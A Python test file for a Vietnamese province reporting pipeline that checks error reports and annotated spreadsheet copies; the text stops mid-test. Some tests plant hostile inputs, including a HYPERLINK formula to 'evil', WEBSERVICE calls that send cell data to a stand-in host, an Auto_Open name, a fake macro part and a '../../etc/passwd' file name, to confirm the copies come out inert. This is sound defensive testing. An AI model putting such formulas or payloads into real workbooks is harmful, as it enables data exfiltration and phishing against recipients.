"""Province error reports and annotated copies: what a province officer opens.

Inputs are built here (small workbooks in memory, findings from the rule book), so these
tests do not depend on the rest of the pipeline.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pandas as pd
import pytest
from openpyxl.styles import Font, PatternFill

from antq.findings import Finding, Where, make_finding
from antq.schemas.registry import registry
from antq.tasks.annotate import FILE_SHEET, annotate_submission
from antq.tasks.read import read_bytes
from antq.tasks.report import copy_names, write_province_report
from antq.text import fold
from antq.warehouse.store import Warehouse
from antq.xlsx import MARK_ERROR_FILL, MARK_WARNING_FILL, put

PERIOD = "2026-10"
EVIL = '=HYPERLINK("http://evil","click")'
RED = MARK_ERROR_FILL.fgColor.rgb
YELLOW = MARK_WARNING_FILL.fgColor.rgb


# ------------------------------------------------------------------------ builders


def _save(wb: openpyxl.Workbook) -> bytes:
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def form_workbook(extra: dict[str, object] | None = None) -> bytes:
    """A small commune form on sheet "Báo cáo": title in A1 (bold), labels in B, values in
    D10..D13; `extra` cells are written as text (never as formulas)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Báo cáo"
    ws["A1"] = "CÔNG AN XÃ GIA PHÚ"
    ws["A1"].font = Font(bold=True, size=13)
    ws["A2"] = "Tháng 10 năm 2026"
    ws.column_dimensions["B"].width = 47
    rows = [("Số nguồn tin do quần chúng cung cấp", -3), ("Trong đó: số nguồn tin có giá trị", 5)]
    rows += [("Tổng số khu dân cư", 14), ("Số khu dân cư đạt chuẩn", 12)]
    for r, (label, value) in enumerate(rows, start=10):
        ws.cell(r, 2, label)
        ws.cell(r, 4, value)
    ws["D13"].fill = PatternFill("solid", fgColor="C6EFCE")  # the submitter's own colour
    for ref, value in (extra or {}).items():
        put(ws, ws[ref].row, ws[ref].column, value)
    return _save(wb)


def ods_bytes(rows: list[list[object]], sheet: str = "Báo cáo") -> bytes:
    """A minimal OpenDocument spreadsheet (what LibreOffice saves), cell by cell."""

    def cell(value: object) -> str:
        if value is None:
            return "<table:table-cell/>"
        if isinstance(value, int | float):
            return (
                f'<table:table-cell office:value-type="float" office:value="{value}">'
                f"<text:p>{value}</text:p></table:table-cell>"
            )
        return (
            '<table:table-cell office:value-type="string">'
            f"<text:p>{escape(str(value))}</text:p></table:table-cell>"
        )

    body = "".join(
        "<table:table-row>" + "".join(cell(v) for v in row) + "</table:table-row>" for row in rows
    )
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        f'<office:body><office:spreadsheet><table:table table:name="{sheet}">{body}'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
        ' manifest:version="1.2"><manifest:file-entry manifest:full-path="/"'
        ' manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("META-INF/manifest.xml", manifest)
        archive.writestr("content.xml", content)
    return buffer.getvalue()


def commune(province: str, index: int = 0):
    return sorted(registry().communes_of(province), key=lambda u: u.code)[index]


def where(path: str, data: bytes | None = None, province: str = "15", unit=None) -> Where:
    return Where(
        period=PERIOD,
        province_code=province,
        original_path=path,
        sha256=hashlib.sha256(data).hexdigest() if data is not None else None,
        unit_code=unit.code if unit else None,
        unit_name=unit.name if unit else None,
    )


def negative(w: Where, cell: str = "D10", value_raw: object = "-3") -> Finding:
    return make_finding(
        "negative-value",
        replace(w, sheet="Báo cáo", cell=cell),
        indicator="nguon_tin",
        value_raw=value_raw,
    )


def stock_drop(w: Where, cell: str = "D12") -> Finding:
    return make_finding(
        "stock-drop",
        replace(w, sheet="Báo cáo", cell=cell),
        indicator="khu_dan_cu_tong",
        value_raw="14",
        value=14,
        previous=40,
        previous_period="9/2026",
    )


def layout_unknown(w: Where) -> Finding:
    return make_finding("layout-unknown", w, detail="không có cột “Số liệu”")


def marks(path: Path) -> dict[tuple[str, str], tuple[str | None, str]]:
    """(sheet, cell) -> (fill colour, comment text) of every commented cell of a copy."""
    wb = openpyxl.load_workbook(path)
    return {
        (ws.title, cell.coordinate): (cell.fill.fgColor.rgb, cell.comment.text)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.comment is not None
    }


def submissions_frame(rows: list[dict[str, object]]) -> pd.DataFrame:
    base = {
        "layout": "form",
        "n_errors": 0,
        "n_warnings": 0,
        "version": 1,
        "superseded_by": None,
        "received_at": pd.Timestamp("2026-10-12 08:00", tz="UTC"),
    }
    return pd.DataFrame([{**base, **row} for row in rows])


# ------------------------------------------------------------------------ annotated copies


def test_the_copy_comments_exactly_the_cells_with_findings(tmp_path):
    data = form_workbook()
    w = where("2026-10/15/gia-phu.xlsx", data, unit=commune("15"))
    error, warning = negative(w), stock_drop(w)

    out = annotate_submission(data, ".xlsx", [error, warning], tmp_path / "gia-phu.sua-loi.xlsx")

    found = marks(out)
    assert sorted(found) == [("Báo cáo", "D10"), ("Báo cáo", "D12")]
    assert found[("Báo cáo", "D10")][0] == RED
    assert found[("Báo cáo", "D12")][0] == YELLOW
    assert error.message in found[("Báo cáo", "D10")][1]
    assert error.fix in found[("Báo cáo", "D10")][1]
    assert warning.message in found[("Báo cáo", "D12")][1]
    copy = openpyxl.load_workbook(out)
    ws = copy["Báo cáo"]
    assert ws["D10"].comment.author == "antq"
    # The rest of the submitter's workbook is as it was.
    assert (ws["D10"].value, ws["D11"].value, ws["B10"].value) == (
        -3,
        5,
        "Số nguồn tin do quần chúng cung cấp",
    )
    assert ws["A1"].font.bold and ws.column_dimensions["B"].width == 47
    assert ws["D13"].fill.fgColor.rgb == "00C6EFCE"


def test_an_error_and_a_warning_on_one_cell_make_one_red_comment_with_both(tmp_path):
    data = form_workbook()
    w = where("2026-10/15/gia-phu.xlsx", data, unit=commune("15"))
    error, warning = negative(w, "D12"), stock_drop(w, "D12")

    found = marks(annotate_submission(data, ".xlsx", [warning, error], tmp_path / "x.xlsx"))

    assert list(found) == [("Báo cáo", "D12")]
    colour, text = found[("Báo cáo", "D12")]
    assert colour == RED
    assert text.index(error.message) < text.index(warning.message)


def test_a_part_larger_than_its_whole_marks_both_cells(tmp_path):
    """The fix names two cells ("sửa một trong hai ô"): the copy marks both, the whole
    with a comment that points at the finding."""
    from builders import CLEAN, form_bytes, form_cell, normalize

    from antq.tasks.validate import validate_month

    values = {**CLEAN, "nguon_tin": 4, "nguon_tin_co_gia_tri": 9}
    data = form_bytes(values)
    findings = validate_month([normalize(data)]).findings
    [finding] = [f for f in findings if f.rule == "part-exceeds-whole"]
    part, whole = form_cell("nguon_tin_co_gia_tri", values), form_cell("nguon_tin", values)
    assert finding.cell == part and finding.related_cells == (whole,)
    assert part in finding.fix and whole in finding.fix

    found = marks(annotate_submission(data, ".xlsx", findings, tmp_path / "x.xlsx"))

    assert found[("Báo cáo", part)][0] == found[("Báo cáo", whole)][0] == RED
    assert finding.message in found[("Báo cáo", whole)][1]
    assert f"ở ô {part}" in found[("Báo cáo", whole)][1]


def test_file_level_findings_are_listed_on_a_new_first_sheet(tmp_path):
    data = form_workbook()
    w = where("2026-10/15/gia-phu.xlsx", data, unit=commune("15"))
    file_level, error = layout_unknown(w), negative(w)

    out = annotate_submission(data, ".xlsx", [error, file_level], tmp_path / "x.xlsx")

    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == [FILE_SHEET, "Báo cáo"]
    assert wb.active.title == FILE_SHEET
    rows = [r for r in wb[FILE_SHEET].iter_rows(values_only=True) if r[0] is not None]
    header = next(i for i, r in enumerate(rows) if r[0] == "STT")
    listed = [(r[2], r[3], r[6]) for r in rows[header + 1 :]]
    # The finding about the whole file first, then the cell, linked to it.
    assert listed == [("Cả tệp", None, file_level.message), ("Báo cáo", "D10", error.message)]
    linked = [c for c in wb[FILE_SHEET]["D"] if c.value == "D10"]
    assert [c.hyperlink.location for c in linked] == ["'Báo cáo'!D10"]
    # Nothing else of the file was commented.
    assert list(marks(out)) == [("Báo cáo", "D10")]


def test_a_copy_sent_back_is_annotated_afresh(tmp_path):
    data = form_workbook()
    w = where("2026-10/15/gia-phu.xlsx", data, unit=commune("15"))
    first = annotate_submission(data, ".xlsx", [negative(w), stock_drop(w)], tmp_path / "1.xlsx")
    resent = first.read_bytes()  # the commune fixed D10 and D12 in the copy, broke D11
    w = where("2026-10/15/gia-phu.xlsx", resent, unit=commune("15"))

    second = annotate_submission(resent, ".xlsx", [negative(w, "D11")], tmp_path / "2.xlsx")

    wb = openpyxl.load_workbook(second)
    assert wb.sheetnames == [FILE_SHEET, "Báo cáo"]
    assert list(marks(second)) == [("Báo cáo", "D11")]
    assert wb["Báo cáo"]["D10"].fill.fill_type is None


def test_an_xlsm_is_copied_as_xlsx_without_its_macros(tmp_path):
    source = zipfile.ZipFile(io.BytesIO(form_workbook()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as xlsm:
        for name in source.namelist():
            text = source.read(name)
            if name == "[Content_Types].xml":
                text = text.replace(b"sheet.main+xml", b"MISSING").replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.MISSING",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                )
            if name == "xl/_rels/workbook.xml.rels":
                text = text.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rId99" Target="vbaProject.bin" Type="http://schemas.'
                    b'microsoft.com/office/2006/relationships/vbaProject"/></Relationships>',
                )
            xlsm.writestr(name, text)
        xlsm.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros")
    data = buffer.getvalue()
    assert read_bytes(data).format == "xlsm"
    w = where("2026-10/15/gia-phu.xlsm", data, unit=commune("15"))

    out = annotate_submission(data, ".xlsm", [negative(w)], tmp_path / "gia-phu.sua-loi.xlsx")

    parts = zipfile.ZipFile(out)
    assert not [n for n in parts.namelist() if "vba" in n.lower()]
    assert b"macroEnabled" not in parts.read("[Content_Types].xml")
    assert list(marks(out)) == [("Báo cáo", "D10")]


def test_an_ods_original_is_rebuilt_with_values_at_the_same_cells(tmp_path):
    data = ods_bytes(
        [
            ["CÔNG AN XÃ GIA PHÚ", None, None, None],
            [None, None, None, None],
            [None, "Số nguồn tin do quần chúng cung cấp", None, -3],
            [None, "Ghi chú", None, EVIL],
        ]
    )
    assert read_bytes(data).format == "ods"
    w = where("2026-10/15/gia-phu.ods", data, unit=commune("15"))

    out = annotate_submission(data, ".ods", [negative(w, "D3")], tmp_path / "gia-phu.sua-loi.xlsx")

    wb = openpyxl.load_workbook(out)
    ws = wb["Báo cáo"]
    assert (ws["A1"].value, ws["B3"].value, ws["D3"].value) == (
        "CÔNG AN XÃ GIA PHÚ",
        "Số nguồn tin do quần chúng cung cấp",
        -3,
    )
    assert (ws["D4"].value, ws["D4"].data_type) == (EVIL, "s")
    assert list(marks(out)) == [("Báo cáo", "D3")]
    note = " ".join(str(c) for r in wb[FILE_SHEET].iter_rows(values_only=True) for c in r if c)
    assert "bản dựng lại" in note and "OpenDocument" in note


def test_an_html_table_saved_as_xls_is_rebuilt_with_merged_cells(tmp_path):
    data = (
        '<html><head><meta charset="utf-8"></head><body><table>'
        '<tr><td colspan="3">CÔNG AN XÃ GIA PHÚ</td></tr>'
        "<tr><td>1</td><td>Số nguồn tin do quần chúng cung cấp</td><td>-3</td></tr>"
        "</table></body></html>"
    ).encode()
    book = read_bytes(data)
    if not book.sheets:
        pytest.skip(f"tasks/read.py does not read HTML tables ({book.problem})")
    grid = book.sheets[0]
    w = where("2026-10/15/gia-phu.xls", data, unit=commune("15"))
    finding = make_finding(
        "not-a-number",
        replace(w, sheet=grid.name, cell="C2"),
        indicator="nguon_tin",
        value_raw="-3",
    )

    out = annotate_submission(data, ".xls", [finding], tmp_path / "gia-phu.sua-loi.xlsx")

    ws = openpyxl.load_workbook(out)[grid.name]
    for r, row in enumerate(grid.rows, start=1):
        for c, value in enumerate(row, start=1):
            if value is not None:
                assert ws.cell(r, c).value == value
    assert [str(m) for m in ws.merged_cells.ranges] == ["A1:C1"]
    assert list(marks(out)) == [(grid.name, "C2")]


def test_an_xlsx_openpyxl_cannot_open_is_rebuilt_from_what_was_read(tmp_path):
    source = zipfile.ZipFile(io.BytesIO(form_workbook()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as broken:
        for name in source.namelist():
            text = b"<broken" if name == "docProps/core.xml" else source.read(name)
            broken.writestr(name, text)
    data = buffer.getvalue()
    assert read_bytes(data).sheets  # the reader copes, openpyxl does not
    w = where("2026-10/15/gia-phu.xlsx", data, unit=commune("15"))

    out = annotate_submission(data, ".xlsx", [negative(w)], tmp_path / "x.xlsx")

    wb = openpyxl.load_workbook(out)
    assert wb["Báo cáo"]["D10"].value == -3
    assert list(marks(out)) == [("Báo cáo", "D10")]


def test_a_file_that_cannot_be_read_gets_no_copy(tmp_path):
    data = b"PK\x03\x04 not really a zip"
    finding = make_finding(
        "file-unreadable", where("2026-10/15/hong.xlsx", data), detail="tệp nén bị hỏng"
    )

    assert annotate_submission(data, ".xlsx", [finding], tmp_path / "hong.sua-loi.xlsx") is None
    assert list(tmp_path.iterdir()) == []


def test_the_copy_holds_no_live_formula(tmp_path):
    data = form_workbook(extra={"F10": EVIL})
    wb = openpyxl.load_workbook(io.BytesIO(data))
    wb["Báo cáo"]["D14"] = "=SUM(D10:D11)"  # a real formula, without a computed value
    data = _save(wb)
    w = where("2026-10/15/gia-phu.xlsx", data, unit=commune("15"))

    out = annotate_submission(data, ".xlsx", [negative(w, "F10", EVIL)], tmp_path / "x.xlsx")

    copy = openpyxl.load_workbook(out)
    cells = [c for ws in copy.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    evil = copy["Báo cáo"]["F10"]
    assert (evil.value, evil.data_type) == (EVIL, "s")
    listed = [c for c in copy[FILE_SHEET]["F"] if c.value == EVIL]
    assert listed and all(c.data_type == "s" for c in listed)


# ------------------------------------------------------------------------ province report


@pytest.fixture
def two_provinces(tmp_path):
    """Files and findings of province 15 and province 01; the originals archived."""
    store = Warehouse(tmp_path / "warehouse")
    a, b = commune("15", 0), commune("15", 1)
    other = commune("01", 0)
    files = {
        "2026-10/15/a/bao-cao.xlsx": (a, form_workbook(extra={"F10": EVIL})),
        "2026-10/15/b/bao-cao.xlsx": (b, form_workbook()),
        "2026-10/01/ha-noi.xlsx": (other, form_workbook()),
        "2026-10/15/hong.xlsx": (None, b"PK\x03\x04 broken"),
    }
    findings, subs = [], []
    for path, (unit, data) in files.items():
        w = where(path, data, province=path.split("/")[1], unit=unit)
        store.archive(w.sha256, ".xlsx", data)
        subs.append(
            {
                "sha256": w.sha256,
                "original_path": path,
                "province_code": w.province_code,
                "unit_code": w.unit_code,
                "status": "rejected" if unit is None else "accepted",
            }
        )
        if unit is None:
            findings.append(make_finding("file-unreadable", w, detail="tệp nén bị hỏng"))
        elif unit is a:
            findings += [negative(w, "F10", EVIL), stock_drop(w)]
        else:
            findings += [negative(w), stock_drop(w)]
    return tmp_path, store, findings, submissions_frame(subs), {a.code, other.code}


def _report(two_provinces, code="15"):
    root, store, findings, subs, reporting = two_provinces
    return write_province_report(
        root / "reports", code, PERIOD, findings, subs, reporting, archive_path=store.archive_path
    )


def _texts(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [str(c) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row]


def test_a_province_report_holds_nothing_about_another_province(two_provinces):
    report = _report(two_provinces)
    other = commune("01", 0)

    texts = _texts(report.workbook)
    assert not [t for t in texts if other.code in t or other.name in t or "2026-10/01/" in t]
    assert commune("15", 0).name in texts
    document = json.loads(report.json.read_text(encoding="utf-8"))
    assert {f["province_code"] for f in document["findings"]} == {"15"}
    assert other.code not in report.json.read_text(encoding="utf-8")
    assert [c["original_path"] for c in document["annotated_copies"]] == [
        "2026-10/15/a/bao-cao.xlsx",
        "2026-10/15/b/bao-cao.xlsx",
    ]
    assert sorted(p.name for p in (report.workbook.parent / "ban-sua").iterdir()) == [
        "a-bao-cao.sua-loi.xlsx",
        "b-bao-cao.sua-loi.xlsx",
    ]


def test_injected_formulas_arrive_as_text_in_the_report_and_the_copy(two_provinces):
    report = _report(two_provinces)

    ws = openpyxl.load_workbook(report.workbook)["Lỗi cần sửa"]
    evil = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == EVIL]
    assert len(evil) == 1 and evil[0].data_type == "s"
    copy = openpyxl.load_workbook(report.workbook.parent / "ban-sua" / "a-bao-cao.sua-loi.xlsx")
    cell = copy["Báo cáo"]["F10"]
    assert (cell.value, cell.data_type, cell.fill.fgColor.rgb) == (EVIL, "s", RED)
    document = json.loads(report.json.read_text(encoding="utf-8"))
    assert EVIL in [f["value_raw"] for f in document["findings"]]


def test_the_findings_sheet_is_sorted_by_unit_frozen_filtered_and_coloured(two_provinces):
    root, store, findings, subs, reporting = two_provinces
    extra = []
    for unit in registry().communes_of("15")[2:8]:  # names with and without "Đ", any order
        w = where(f"2026-10/15/{unit.code}.xlsx", b"x", unit=unit)
        extra += [stock_drop(w), negative(w)]
    report = write_province_report(
        root / "reports", "15", PERIOD, extra + findings, subs, reporting
    )

    ws = openpyxl.load_workbook(report.workbook)["Lỗi cần sửa"]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    named = [r[2] for r in rows if r[1]]
    assert named == sorted(named, key=lambda name: (fold(name), name))
    assert rows[-1][2] == "(chưa xác định)"  # the file whose unit is unknown comes last
    for first, second in zip(rows, rows[1:], strict=False):
        if first[1] == second[1] and first[3] == second[3]:
            assert (first[8], second[8]) != ("Cảnh báo", "Lỗi")  # errors first in a file
    assert ws.freeze_panes == "D2"
    assert ws.auto_filter.ref == f"A1:N{len(rows) + 1}"  # 14 columns, the rule id last
    fills = {ws.cell(r, 9).value: ws.cell(r, 9).fill.fgColor.rgb for r in range(2, len(rows) + 2)}
    assert fills == {"Lỗi": RED, "Cảnh báo": YELLOW}


def test_rule_ids_come_last_narrow_and_small(two_provinces):
    ws = openpyxl.load_workbook(_report(two_provinces).workbook)["Lỗi cần sửa"]
    last = ws.max_column
    assert ws.cell(1, last).value == "Mã quy tắc"
    assert ws.cell(2, last).value in {"negative-value", "stock-drop", "file-unreadable"}
    assert ws.column_dimensions[openpyxl.utils.get_column_letter(last)].width <= 14
    assert ws.cell(2, last).font.sz <= 9  # the body is 11
    headers = [c.value for c in ws[1]]
    assert headers.index("Nội dung") < headers.index("Cách sửa") < last - 1


def test_the_files_sheet_says_accepted_in_part_and_when_as_a_real_date(two_provinces):
    """A file accepted with a value held back by an error is "Chấp nhận một phần", with
    the cell and indicator held back; the arrival is a date-time Excel can sort."""
    root, store, findings, subs, reporting = two_provinces
    ws = openpyxl.load_workbook(_report(two_provinces).workbook)["Tệp đã nhận"]
    headers = [c.value for c in ws[1]]
    rows = {
        r[0]: dict(zip(headers, r, strict=True)) for r in ws.iter_rows(min_row=2, values_only=True)
    }
    held = rows["2026-10/15/b/bao-cao.xlsx"]
    assert held["Kết quả"] == "Chấp nhận một phần"
    assert held["Số liệu chưa được nhận (phải sửa rồi gửi lại)"] == (
        "D10 (Số nguồn tin do quần chúng cung cấp)"
    )
    assert rows["2026-10/15/hong.xlsx"]["Kết quả"] == "Từ chối"
    at = held["Thời điểm nhận"]
    assert at == dt.datetime(2026, 10, 12, 15, 0)  # 08:00 UTC, in Việt Nam
    column = headers.index("Thời điểm nhận") + 1
    assert ws.cell(2, column).number_format == "dd/mm/yyyy hh:mm"


def test_a_province_that_sent_nothing_is_told_so(two_provinces):
    root, store, findings, subs, reporting = two_provinces
    report = write_province_report(root / "reports", "04", PERIOD, [], subs, set())
    texts = _texts(report.workbook)
    assert any("Chưa nhận được tệp nào của tỉnh" in t for t in texts)
    assert not any("Không có lỗi hay cảnh báo" in t for t in texts)


def test_a_file_sent_for_the_wrong_month_counts_for_its_commune_with_why(tmp_path):
    """Last month's form sent again: rejected, but the commune is named, so the report
    says it sent one file that was refused for its period, not that it sent nothing."""
    from builders import CLEAN, form_bytes, normalize

    data = form_bytes(CLEAN, period_line="Tháng 9 năm 2026")
    parsed = normalize(data, path="2026-10/15/gia-phu.xlsx")
    gia_phu = registry().match_commune("Gia Phú", "15").unit
    assert parsed.rejected and parsed.unit_code == gia_phu.code
    [finding] = parsed.findings
    assert (finding.rule, finding.unit_code) == ("period-mismatch", gia_phu.code)
    subs = submissions_frame(
        [
            {
                "sha256": parsed.ref.sha256,
                "original_path": parsed.ref.original_path,
                "province_code": "15",
                "unit_code": parsed.unit_code,
                "status": "rejected",
                "n_errors": 1,
            }
        ]
    )
    report = write_province_report(tmp_path, "15", PERIOD, [finding], subs, set())

    ws = openpyxl.load_workbook(report.workbook)["Tổng hợp"]
    rows = [r for r in ws.iter_rows(values_only=True) if r[1] == gia_phu.code]
    assert len(rows) == 1
    name, code, _, n_files, state, files = rows[0][:6]
    assert (name, n_files, files) == (gia_phu.name, 1, "gia-phu.xlsx")
    assert state == "Báo cáo bị từ chối (sai kỳ báo cáo): sửa lỗi rồi gửi lại"


def test_each_finding_links_to_its_annotated_copy(two_provinces):
    report = _report(two_provinces)

    ws = openpyxl.load_workbook(report.workbook)["Lỗi cần sửa"]
    links = {}
    for r in range(2, ws.max_row + 1):
        link = ws.cell(r, 13).hyperlink
        links.setdefault(ws.cell(r, 4).value, set()).add(
            link.target if link else ws.cell(r, 13).value
        )
    assert links == {
        "2026-10/15/a/bao-cao.xlsx": {"ban-sua/a-bao-cao.sua-loi.xlsx"},
        "2026-10/15/b/bao-cao.xlsx": {"ban-sua/b-bao-cao.sua-loi.xlsx"},
        "2026-10/15/hong.xlsx": {"Không có bản sao (tệp không mở được)"},
    }
    for target in {"ban-sua/a-bao-cao.sua-loi.xlsx", "ban-sua/b-bao-cao.sua-loi.xlsx"}:
        assert (report.workbook.parent / target).is_file()


def test_the_summary_reads_well(two_provinces):
    report = _report(two_provinces)

    rows = [
        [c for c in row if c is not None]
        for row in openpyxl.load_workbook(report.workbook)["Tổng hợp"].iter_rows(values_only=True)
    ]
    stats = {r[0]: r[1] for r in rows if len(r) == 2}
    assert stats["Số tệp đã nhận"] == 3
    assert stats["Số tệp bị từ chối (phải gửi lại)"] == 1
    assert stats["Số lỗi phải sửa"] == 3 and stats["Số cảnh báo cần xem lại"] == 2
    assert stats["Số bản sao đánh dấu lỗi (thư mục “ban-sua”)"] == 2
    texts = [r[0] for r in rows if r]
    guide = texts.index("Hướng dẫn sử dụng báo cáo")
    assert "ban-sua" in texts[guide + 2] and "gửi lại" in texts[guide + 3]
    # "ô tô đỏ" reads first as "a red car": the cells are "ô màu đỏ"
    assert "ô màu đỏ là lỗi, ô màu vàng là cảnh báo" in texts[guide + 2]
    assert "Sửa các ô màu đỏ" in texts[guide + 3]
    assert not [t for t in texts if isinstance(t, str) and "ô tô" in t.lower()]
    copy = openpyxl.load_workbook(report.workbook.parent / "ban-sua" / "a-bao-cao.sua-loi.xlsx")
    first = [c for row in copy.worksheets[0].iter_rows(values_only=True) for c in row if c]
    assert any(str(t).startswith("Ô màu đỏ là lỗi phải sửa") for t in first)
    assert not [t for t in first if "ô tô" in str(t).lower()]
    top = next(i for i, r in enumerate(rows) if r[:2] == ["Vấn đề", "Mức độ"])
    assert [tuple(r[:4]) for r in rows[top + 1 : top + 4]] == [
        ("Số âm", "Lỗi", 2, 2),
        ("Tệp không mở được", "Lỗi", 1, 1),
        ("Giảm đột ngột", "Cảnh báo", 2, 2),
    ]
    missing = {u.code for u in registry().communes_of("15")} - {commune("15", 0).code}
    listed = {r[1] for r in rows if len(r) > 1 and isinstance(r[1], str) and r[1] in missing}
    assert listed == missing
    b = commune("15", 1)
    assert [
        b.name,
        b.code,
        b.division_type,
        1,
        "Số liệu có lỗi nên chưa được nhận: sửa lỗi rồi gửi lại",
        "bao-cao.xlsx",
    ] in rows


def test_copy_names_are_plain_bounded_and_unique():
    files = [
        ("2026-10/15/a/Báo cáo tháng 10.xlsx", "1" * 64),
        ("2026-10/15/b/Báo cáo tháng 10.xlsx", "2" * 64),
        ("2026-10/15/Báo cáo tháng 10.xlsx", "3" * 64),
        ("2026-10/15/Báo cáo tháng 10.xlsx", "4" * 64),  # a second version of one file
        ("2026-10/15/CON.xls", "5" * 64),
        ("2026-10/15/../../etc/passwd.xlsx", "6" * 64),
        ("2026-10/15/" + "Rất dài " * 60 + ".xlsx", "7" * 64),
        ("15\\windows\\path.xlsx", "8" * 64),
    ]
    names = copy_names(files)

    assert copy_names(reversed(files)) == names
    assert len(set(names.values())) == len(files)
    for name in names.values():
        assert re.fullmatch(r"[a-z0-9][a-z0-9-]*\.sua-loi\.xlsx", name), name
        assert len(name) <= 130
    assert names[files[0]] == "a-bao-cao-thang-10.sua-loi.xlsx"
    assert names[files[2]] == "bao-cao-thang-10.sua-loi.xlsx"
    assert names[files[3]] == "bao-cao-thang-10-44444444.sua-loi.xlsx"
    assert names[files[4]] == "tep-con.sua-loi.xlsx"


def test_a_rerun_leaves_no_stale_copy(two_provinces):
    root, store, findings, subs, reporting = two_provinces
    _report(two_provinces)
    fixed = [f for f in findings if not f.original_path.startswith("2026-10/15/b/")]

    report = write_province_report(
        root / "reports", "15", PERIOD, fixed, subs, reporting, archive_path=store.archive_path
    )

    assert [p.name for p in report.copies] == ["a-bao-cao.sua-loi.xlsx"]
    assert [p.name for p in (report.workbook.parent / "ban-sua").iterdir()] == [
        "a-bao-cao.sua-loi.xlsx"
    ]


def test_control_characters_in_a_value_do_not_break_the_report(two_provinces):
    root, store, findings, subs, reporting = two_provinces
    w = where("2026-10/15/x.xlsx", b"x", unit=commune("15", 3))
    odd = negative(w, "D10", "1\x002\x07")

    report = write_province_report(root / "reports", "15", PERIOD, [odd], subs, reporting)

    ws = openpyxl.load_workbook(report.workbook)["Lỗi cần sửa"]
    assert ws["H2"].value == "1\ufffd2\ufffd"


def test_annotating_is_fast_enough_for_a_national_month(tmp_path):
    """~100 files with errors a month: well under a few seconds per hundred."""
    data = form_workbook()
    w = where("2026-10/15/gia-phu.xlsx", data, unit=commune("15"))
    findings = [negative(w), stock_drop(w), layout_unknown(w)]
    start = dt.datetime.now()
    for i in range(20):
        annotate_submission(data, ".xlsx", findings, tmp_path / f"{i}.xlsx")
    per_hundred = (dt.datetime.now() - start).total_seconds() * 5
    assert per_hundred < 10, f"{per_hundred:.1f} s per 100 files"


def test_the_copy_sent_back_carries_no_live_content(tmp_path):
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation

    book = openpyxl.load_workbook(io.BytesIO(form_workbook()))
    ws = book["Báo cáo"]
    ws.conditional_formatting.add(
        "D9:D20", FormulaRule(formula=['ISNUMBER(WEBSERVICE("http://x.invalid/?"&D9))'])
    )
    validation = DataValidation(type="custom", formula1='=WEBSERVICE("http://x.invalid")')
    validation.add("D10")
    ws.add_data_validation(validation)
    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text="'Báo cáo'!$A$1")
    ws["F1"] = "=SUM(D9:D12)"
    buffer = io.BytesIO()
    book.save(buffer)
    data = buffer.getvalue()
    w = where("2026-10/15/gia-phu.xlsx", data, unit=commune("15"))

    out = annotate_submission(data, ".xlsx", [negative(w)], tmp_path / "x.sua-loi.xlsx")

    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        xml = b"".join(archive.read(n) for n in names if n.endswith(".xml"))
    for part in ("vbaProject", "externalLink", "connections", "embeddings", "activeX"):
        assert not any(part in name for name in names), part
    for element in (b"<f>", b"<f ", b"conditionalFormatting", b"dataValidation", b"WEBSERVICE"):
        assert element not in xml, element
    # Only the names Excel itself keeps for our own list's filter remain.
    names_defined = re.findall(rb'<definedName name="([^"]+)"', xml)
    assert all(name.startswith(b"_xlnm.") for name in names_defined), names_defined
    assert marks(out)  # the finding's mark is still there


# ------------------------------------------------------------------ the report stage's limits


def _unknown_rows(w: Where, n: int) -> list[Finding]:
    return [
        make_finding(
            "unit-unknown",
            replace(w, sheet="Sheet1", cell=f"B{r}"),
            value_raw=f"Xã Không Có {r}",
            detail=f": “Xã Không Có {r}” không có trong danh mục đơn vị hành chính",
        )
        for r in range(2, n + 2)
    ]


def test_one_file_cannot_flood_the_report_with_findings_of_one_kind(tmp_path):
    from antq.findings import SHOWN_PER_RULE

    data = form_workbook()
    flood = _unknown_rows(where("2026-10/15/bang.xlsx", data), SHOWN_PER_RULE + 2_950)
    w = where("2026-10/15/gia-phu.xlsx", data, unit=commune("15"))
    others = [negative(w), stock_drop(w)]
    subs = submissions_frame([])

    report = write_province_report(tmp_path, "15", PERIOD, flood + others, subs, set())

    ws = openpyxl.load_workbook(report.workbook)["Lỗi cần sửa"]
    rules = [ws.cell(r, 14).value for r in range(2, ws.max_row + 1)]
    assert rules.count("unit-unknown") == SHOWN_PER_RULE
    assert rules.count("negative-value") == rules.count("stock-drop") == 1
    summary = [
